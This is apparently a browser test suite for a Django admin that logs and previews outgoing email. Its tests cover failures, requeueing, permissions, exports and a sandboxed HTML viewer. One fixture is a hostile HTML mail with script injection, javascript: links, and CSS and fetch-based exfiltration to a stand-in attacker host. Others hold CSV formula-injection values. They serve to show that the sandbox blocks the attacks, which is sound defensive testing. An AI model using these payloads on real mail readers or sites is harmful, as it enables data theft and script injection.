"""The admin in a real browser, in English and in Turkish."""

from __future__ import annotations

import csv
import io
import re

from devservers.process import wait_until
from devservers.smtp_faults import refuse
from tests.browser import inside
from tests.browser.chrome import PHONE, TIMEOUT, Chrome
from tests.browser.conftest import Shop
from tests.browser.web import Stranger

MAILS = "/admin/epica_mail/emaillog/"
HTML = """<!doctype html><html><head><meta name="color-scheme" content="light dark"></head>
<body><h1>Teşekkürler</h1><p>Your order is on its way.</p></body></html>"""


def page_of(mail: str, query: str = "") -> str:
    return f"{MAILS}{mail}/change/{query}"


def test_an_operator_finds_out_why_a_mail_failed(shop: Shop, chrome: Chrome, language: str) -> None:
    shop.smtp.inject(refuse("rcpt", 550, "5.1.1 No such user here", times=1))
    failed = shop.call(inside.send, f"nobody-{language}@example.com", f"Fatura {language}")
    shop.wait_until_it_is(failed, "failed")
    shop.deliver("ayse@example.com", "Sipariş özeti", HTML)
    shop.call(inside.send_tomorrow, "fatma@example.com", "Hatırlatma")

    chrome.open(MAILS)
    assert chrome.one("html").get_attribute("lang") == language
    assert chrome.all(".epica-badge.epica-sent")
    chrome.picture(f"list-{language}")
    chrome.press("#changelist-filter a[href='?status=failed']")
    assert chrome.all(".epica-badge.epica-failed")
    assert not chrome.all(".epica-badge.epica-sent")
    chrome.one("#searchbar").send_keys(f"nobody-{language}@example.com")
    chrome.press("#changelist-search input[type=submit]")
    chrome.press("#result_list .epica-subject")
    assert failed in chrome.driver.current_url
    assert "550 5.1.1 No such user here" in chrome.one(".epica-timeline").text
    chrome.picture(f"failed-{language}")


def test_a_failed_mail_is_queued_again_after_confirmation(
    shop: Shop, chrome: Chrome, language: str
) -> None:
    shop.smtp.inject(refuse("rcpt", 550, "5.1.1 Not today", times=1))
    mail = shop.call(inside.send, f"again-{language}@example.com", "Bir daha")
    shop.wait_until_it_is(mail, "failed")
    chrome.open(f"{MAILS}?q={mail}")
    chrome.one(f"input.action-select[value='{mail}']").click()
    chrome.one("select[name=action] option[value=requeue]").click()
    chrome.press("#changelist-form button[name=index]")
    assert "Bir daha" in chrome.text
    assert shop.status_of(mail) == "failed"
    chrome.picture(f"confirm-{language}")
    chrome.press(".epica-confirm button")
    assert chrome.all(".messagelist .success")
    shop.wait_until_it_is(mail, "sent")


def test_a_sent_mail_is_sent_again_from_its_page(shop: Shop, chrome: Chrome, language: str) -> None:
    to = f"twice-{language}@example.com"
    mail = shop.deliver(to, "İki kez")
    chrome.open(page_of(mail))
    chrome.press("button[value=send_again]")
    chrome.press(".epica-confirm button")
    assert mail in chrome.driver.current_url

    def arrived() -> int:
        return sum(to in message.recipients for message in shop.smtp.accepted)

    wait_until(lambda: arrived() == 2, timeout=TIMEOUT, what="the second mail to arrive")


def test_an_unknown_outcome_is_decided(shop: Shop, chrome: Chrome, language: str) -> None:
    mail = shop.call(inside.send_tomorrow, f"lost-{language}@example.com", "Belki")
    shop.call(inside.lose, mail)
    chrome.open(page_of(mail))
    assert len(chrome.all(".epica-notice.epica-unknown")) == 2, "what it waits for, what to do"
    chrome.picture(f"unknown-{language}")
    chrome.press("button[value=decide_arrived]")
    chrome.press(".epica-confirm button")
    assert chrome.one("h1 .epica-badge.epica-sent").is_displayed()
    assert shop.status_of(mail) == "sent"


def test_scheduled_mail_is_cancelled_or_sent_now(shop: Shop, chrome: Chrome) -> None:
    off, now = (shop.call(inside.send_tomorrow, "a@example.com", f"Yarın {n}") for n in range(2))
    for mail, action in ((off, "cancel"), (now, "send_now")):
        chrome.open(page_of(mail))
        chrome.press(f"button[value={action}]")
        chrome.press(".epica-confirm button")
    shop.wait_until_it_is(off, "cancelled")
    shop.wait_until_it_is(now, "sent")


def test_content_is_shown_at_both_widths_and_in_both_themes(
    shop: Shop, chrome: Chrome, language: str
) -> None:
    pdf = ("fatura.pdf", "%PDF-1.4", "application/pdf")
    mail = shop.deliver("ayse@example.com", "Sipariş", HTML, attachments=(pdf,))
    chrome.open(page_of(mail))
    frame = chrome.one("iframe.epica-frame")
    wide = frame.size["width"]
    chrome.driver.switch_to.frame(frame)
    assert chrome.one("h1").text == "Teşekkürler"
    assert _prefers_dark(chrome) is False
    chrome.driver.switch_to.default_content()
    chrome.picture(f"content-{language}")
    chrome.press(".epica-toolbar a[href^='?width=phone']")
    assert chrome.one("iframe.epica-frame").size["width"] <= 390 < wide
    chrome.press(".epica-toolbar a[href*='theme=dark']")
    frame = chrome.one("iframe.epica-frame-phone.epica-frame-dark")
    chrome.driver.switch_to.frame(frame)
    assert _prefers_dark(chrome) is True
    chrome.driver.switch_to.default_content()
    chrome.picture(f"content-dark-{language}")


def _prefers_dark(chrome: Chrome) -> bool:
    script = "return matchMedia('(prefers-color-scheme: dark)').matches"
    return bool(chrome.driver.execute_script(script))


def test_raw_messages_attachments_and_exports_are_downloaded(shop: Shop, english: Chrome) -> None:
    page = ("page.html", "<script>alert(1)</script>", "text/html")
    mail = shop.deliver("=1+1@example.com", "=cmd", HTML, attachments=(page,))
    english.open(page_of(mail))
    here = english.driver.current_url
    english.one(".epica-attachments a").click()
    assert english.downloaded("page.html") == b"<script>alert(1)</script>"
    english.one(f"a[href$='{mail}/raw/']").click()
    assert f"Message-ID: <{mail}@".encode() in english.downloaded(f"{mail}.eml")
    assert english.driver.current_url == here
    english.press("button[value=export_csv]")
    english.one(".epica-confirm button").click()
    (row,) = csv.DictReader(io.StringIO(english.downloaded("e-mails.csv").decode("utf-8-sig")))
    assert (row["id"], row["subject"], row["recipients"]) == (mail, "'=cmd", "'=1+1@example.com")


def test_a_queue_is_paused_and_resumed(shop: Shop, chrome: Chrome, language: str) -> None:
    shop.deliver("a@example.com", "Before")
    chrome.open("/admin/epica_mail/deliverygate/")
    chrome.press("button[value='pause queue emails']")
    chrome.picture(f"gates-{language}")
    shop.wait_for_gates()
    mail = shop.call(inside.send, "a@example.com", "Bekle")
    chrome.open(page_of(mail))
    assert "“emails”" in chrome.one(".epica-notice").text
    chrome.open("/admin/epica_mail/deliverygate/")
    chrome.press("button[value='resume queue emails']")
    shop.wait_for_gates()
    shop.call(inside.send, "a@example.com", "Rings again")
    shop.wait_until_it_is(mail, "sent")


def test_a_bulk_call_shows_what_it_refused(shop: Shop, chrome: Chrome, language: str) -> None:
    batch = shop.call(inside.send_bulk, 3)
    chrome.open("/admin/epica_mail/emailbatch/")
    chrome.picture(f"batches-{language}")
    chrome.open(f"/admin/epica_mail/emailbatch/{batch}/change/")
    assert "ValueError" in chrome.text
    chrome.picture(f"batch-{language}")
    chrome.press(f"a[href$='?batch={batch}']")
    assert len(chrome.all("#result_list tbody tr")) == 3


def test_templates_are_previewed(chrome: Chrome, language: str) -> None:
    chrome.open(MAILS)
    chrome.press("a[href$='/previews/']")
    chrome.press(".epica-choices a[href*='emails%2Fwelcome']")
    chrome.press(f".epica-toolbar a[href$='language={language}']")
    chrome.picture(f"preview-{language}")
    chrome.driver.switch_to.frame(chrome.one("iframe.epica-frame"))
    assert "Ayşe" in chrome.text
    assert (chrome.one("html").get_attribute("lang") or "").startswith(language)
    chrome.driver.switch_to.default_content()


def test_a_viewer_sees_no_content_and_no_buttons(shop: Shop, viewer: Chrome) -> None:
    mail = shop.deliver("ayse@example.com", "Gizli", HTML)
    viewer.open(MAILS)
    assert not viewer.all("select[name=action]")
    viewer.open(page_of(mail))
    assert "permission" in viewer.text
    assert not viewer.all("iframe, .epica-operations, .epica-attachments")
    viewer.picture("viewer")
    viewer.open("/admin/epica_mail/deliverygate/")
    assert not viewer.all(".epica-page form")


def test_a_mail_links_to_its_celery_result(shop: Shop, english: Chrome) -> None:
    mail = shop.deliver("a@example.com", "With a result", store_result=True)
    wait_until(
        lambda: shop.fetch(
            f"SELECT 1 FROM django_celery_results_taskresult WHERE task_id = '{mail}'"
        ),
        timeout=TIMEOUT,
        what="the result to be stored",
    )
    english.open(page_of(mail))
    english.press(".epica-page a[href*='django_celery_results/taskresult/']")
    assert mail in english.text


HOSTILE = """<!doctype html><html><head><title>t</title>
<meta http-equiv="refresh" content="0; url={evil}/refresh">
<link rel="stylesheet" href="{evil}/link.css"><link rel="preconnect" href="{evil}">
<style>@import "{evil}/import.css"; @font-face {{ font-family: x; src: url({evil}/font) }}
p {{ font-family: x; background: url({evil}/background) }}
input[value^="s"] {{ background: url({evil}/exfiltrated) }}</style>
<script>top.document.title = "owned"; fetch("{evil}/script")</script>
<script src="{evil}/script.js"></script></head>
<body onload="alert(1)"><p>Hello</p>
<img id="image" src="{evil}/image" onerror="alert(2)">
<form id="form" action="{evil}/form" method="get"><input name="x" value="secret">
<button id="submit">Go</button></form>
<a id="script" href="javascript:top.document.title='owned'">script</a>
<a id="top" target="_top" href="{evil}/top">top</a>
<a id="window" target="_blank" href="{evil}/window">window</a>
<iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object>
<video src="{evil}/video" autoplay></video><embed src="{evil}/embed">
</body></html>"""


def test_a_hostile_mail_reaches_nothing(shop: Shop, english: Chrome, stranger: Stranger) -> None:
    mail = shop.deliver("a@example.com", "Evil", HOSTILE.format(evil=stranger.url))
    english.open(page_of(mail))
    address, title = english.driver.current_url, english.driver.title
    windows = english.driver.window_handles
    english.driver.switch_to.frame(english.one("iframe.epica-frame"))
    assert "Hello" in english.text
    assert not english.all("#submit, script, meta, link, iframe, object, video, embed")
    for name in ("script", "top", "window"):
        english.one(f"#{name}").click()
    english.driver.switch_to.default_content()
    assert english.driver.current_url == address
    assert english.driver.title == title
    assert english.driver.window_handles == windows
    assert stranger.hits == []

    english.press(".epica-toolbar a[href*='images=1']")
    wait_until(lambda: stranger.hits, timeout=TIMEOUT, what="the image to be asked for")
    english.driver.switch_to.frame(english.one("iframe.epica-frame"))
    assert "Hello" in english.text
    english.driver.switch_to.default_content()
    asked = {re.sub(r"\?.*", "", hit.path) for hit in stranger.hits}
    assert "/image" in asked
    assert asked <= {"/image", "/background", "/exfiltrated"}  # only images, as requested
    assert {(hit.cookie, hit.referrer) for hit in stranger.hits} == {("", "")}
    assert english.driver.title == title


def test_the_same_attack_succeeds_without_the_sandbox(english: Chrome, stranger: Stranger) -> None:
    stranger.page = HOSTILE.format(evil=stranger.url).replace("alert", "void")
    english.driver.get(f"{stranger.url}/page")
    wanted = {"/script", "/link.css", "/import.css", "/image", "/exfiltrated", "/refresh"}
    wait_until(
        lambda: wanted <= {hit.path for hit in stranger.hits},
        timeout=TIMEOUT,
        what="the attack to succeed",
        details=lambda: str(stranger.hits),
    )


def test_a_hostile_mail_is_harmless_outside_its_frame(
    shop: Shop, english: Chrome, stranger: Stranger
) -> None:
    mail = shop.deliver("a@example.com", "Evil", HOSTILE.format(evil=stranger.url))
    english.open(f"{MAILS}{mail}/html/")
    title = english.driver.title
    english.one("#script").click()
    assert english.driver.title == title
    assert english.driver.current_url.endswith("/html/")
    assert stranger.hits == []
    english.console()


def test_no_page_is_wider_than_a_phone(shop: Shop, english: Chrome) -> None:
    mail = shop.deliver("ayse@example.com", "Telefon", HTML)
    batch = shop.call(inside.send_bulk, 1)
    english.look("light", PHONE)
    for path in (
        page_of(mail),
        "/admin/epica_mail/deliverygate/",
        f"/admin/epica_mail/emailbatch/{batch}/change/",
        f"{MAILS}previews/?template=emails/welcome",
    ):
        english.open(path)
        assert english.overflow() == 0, path
    english.look("light")
